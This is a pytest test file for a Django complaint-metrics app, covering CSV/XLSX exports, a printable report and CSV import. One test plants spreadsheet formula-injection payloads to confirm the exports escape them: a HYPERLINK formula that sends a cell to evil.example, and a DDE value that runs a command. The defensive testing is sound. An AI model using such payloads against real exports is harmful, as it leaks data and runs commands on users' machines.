"""Exports (CSV, XLSX) of the dashboard and of complaint lists, the printable monthly report,
customers served imported from CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from kesu.metrics.models import CustomersServed

pytestmark = pytest.mark.django_db


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_dashboard_exports_as_csv_and_xlsx(september, client, manager, team):
    client.force_login(manager)
    response = client.get("/metrics/export.csv", {"month": "2026-09", "team": team.pk})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = body(response).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    kpi_rows = {row[0]: row for row in rows[:10] if row}
    assert kpi_rows["投诉处理回复及时率"][4:7] == ["66.7%", "2", "3"]
    response = client.get("/metrics/export.xlsx", {"month": "2026-09", "team": team.pk})
    book = load_workbook(io.BytesIO(body(response)))
    assert len(book.sheetnames) == 7  # KPIs, trend, categories, causes, emotions, funnel, sources
    values = {(row[0], row[1]): row for row in book.worksheets[0].iter_rows(values_only=True)}
    overall, standard_tier = values[("投诉客户满意率", "全部等级")], values[("投诉客户满意率", "普通客户")]
    assert overall[4] == 0.75 and overall[10] == "未达标" and overall[12] == "达标"  # 85 % / 65 %
    assert standard_tier[4] == 0.75 and values[("投诉客户满意率", "VIP")][4] is None
    assert client.get("/metrics/export.pdf").status_code == 404


def test_the_complaints_behind_a_figure_export_with_masked_names(september, client, manager, team):
    client.force_login(manager)
    params = {"month": "2026-09", "team": team.pk, "figure": "on_time_effective_reply", "part": "num"}
    text = body(client.get("/metrics/complaints/", {**params, "format": "csv"})).decode("utf-8-sig")
    references = {row[0] for row in csv.reader(io.StringIO(text))}
    assert {september.a.reference, september.b.reference} <= references
    assert september.c.reference not in references and "张伟" not in text and "张*" in text
    book = load_workbook(io.BytesIO(body(client.get("/metrics/complaints/", {**params, "format": "xlsx"}))))
    assert book.active.max_row == 3  # header + A + B


def test_queue_lists_export_with_the_queues_filters(september, client, manager, lead, agent, team):
    client.force_login(manager)
    text = body(client.get("/metrics/export/complaints.csv", {"channel": "letter"})).decode("utf-8-sig")
    assert september.c.reference in text and september.a.reference not in text
    client.force_login(lead)
    text = body(client.get("/metrics/export/complaints.csv")).decode("utf-8-sig")
    assert september.a.reference in text and september.f.reference not in text  # the lead's team only
    client.force_login(agent)
    assert client.get("/metrics/export/complaints.csv").status_code == 403


def test_the_monthly_report_is_a_printable_page(september, client, manager, team):
    client.force_login(manager)
    response = client.get("/metrics/report/", {"month": "2026-09", "team": team.pk})
    text = response.content.decode()
    assert response.status_code == 200 and "metrics/metrics.css" in text and 'class="print-page"' in text
    assert 'data-kpi="first_contact_resolution"' in text and "2026-09" in text
    from django.contrib.staticfiles import finders

    css = open(finders.find("metrics/metrics.css"), encoding="utf-8").read()
    assert "@media print" in css and ".topbar" in css
    assert (
        "window.print()" in open(finders.find("kesu/kesu.js"), encoding="utf-8").read()
    )  # the button's click


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_per_million_counts_show_their_thousands_grouped(september, client, manager, team, language):
    """Customers served run to millions: 1,234,567 reads at a glance, 1234567 does not. Chinese pages
    group the same way (zh-hans's own format has no separator at all)."""
    CustomersServed.objects.filter(month=date(2026, 9, 1), tier=None).update(count=1_234_567)
    client.force_login(manager)
    client.cookies["django_language"] = language
    for url in ("/metrics/", "/metrics/report/"):
        html = client.get(url, {"month": "2026-09", "team": team.pk}).content.decode()
        for key in ("complaints_per_million", "escalated_complaints_per_million"):
            row = re.search(rf'<tr data-kpi="{key}">(.*?)</tr>', html, re.S).group(1)
            assert re.search(r'class="denominator">1,234,567</a>', row), (url, key)
            assert "1234567" not in row


def test_the_dashboard_page_shows_charts_from_the_packages_own_static_files(september, client, manager):
    client.force_login(manager)
    text = client.get("/metrics/", {"month": "2026-09"}).content.decode()
    assert "metrics/vendor/chart-4.6.1.umd.min.js" in text and 'id="metrics-data"' in text
    assert "http://" not in text.split("<main>")[1] and "https://" not in text.split("<main>")[1]
    from django.contrib.staticfiles import finders

    assert finders.find("metrics/vendor/chart-4.6.1.umd.min.js")


def test_customers_served_are_imported_from_csv(tmp_path, db):
    path = tmp_path / "served.csv"
    path.write_text(
        "month,tier,count\n2026-10,,20000000\n2026-10,vip,150000\n2026-11-01,,21000000\n", encoding="utf-8"
    )
    call_command("import_customers_served", str(path))
    path.write_text("month,tier,count\n2026-10,,20500000\n", encoding="utf-8")
    call_command("import_customers_served", str(path))
    served = {
        (row.month, row.tier.code if row.tier else ""): row.count for row in CustomersServed.objects.all()
    }
    assert served == {
        (date(2026, 10, 1), ""): 20_500_000,
        (date(2026, 10, 1), "vip"): 150_000,
        (date(2026, 11, 1), ""): 21_000_000,
    }
    path.write_text("month,tier,count\n2026-12,gold,1\n", encoding="utf-8")
    with pytest.raises(CommandError, match="unknown tier"):
        call_command("import_customers_served", str(path))


def test_per_million_by_tier_uses_the_tiers_customers(september, api, manager, team):
    CustomersServed.objects.create(month=date(2026, 9, 1), tier_id=_tier("standard"), count=1_000_000)
    data = api(manager).get("/api/v1/kpis/", {"month": "2026-09", "team": team.pk, "tier": "standard"}).json()
    figure = next(k for k in data["kpis"] if k["key"] == "complaints_per_million")
    assert (figure["numerator"], figure["denominator"], figure["value"]) == (4, 1_000_000, 4.0)


def _tier(code):
    from kesu.customers.models import Tier

    return Tier.objects.get(code=code).pk


def test_exported_cells_never_run_as_formulas(september, client, manager, team):
    """A name someone typed as a formula is exported as text, in CSV and in XLSX."""
    team.name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    team.save()
    september.a.customer.name = "-2+3+cmd|' /C calc'!A0"  # masked to its first character, still "-…"
    september.a.customer.save()
    client.force_login(manager)
    text = body(client.get("/metrics/export/complaints.csv")).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + team.name in cells and any(cell.startswith("'-*") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    book = load_workbook(io.BytesIO(body(client.get("/metrics/export/complaints.xlsx"))))
    sheet = book.active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert "'" + team.name in [cell.value for row in sheet.iter_rows() for cell in row]


def test_complaint_lists_export_with_chinese_headers_names_and_sized_columns(september, client, manager):
    from django.utils import translation

    client.force_login(manager)
    with translation.override("zh-hans"):
        text = body(client.get("/metrics/export/complaints.csv")).decode("utf-8-sig")
        book = load_workbook(io.BytesIO(body(client.get("/metrics/export/complaints.xlsx"))))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:4] == ["编号", "受理", "阶段", "渠道"] and "重开次数" in rows[0]
    stages = {row[2] for row in rows[1:]}
    assert stages and not stages & {"accept", "listen", "closed", "follow_up"}  # names, not codes
    assert all(len(row[1]) == 16 for row in rows[1:])  # 2026-09-03 10:00, to the minute
    sheet = book.active
    assert sheet.column_dimensions["A"].width >= 10 and sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
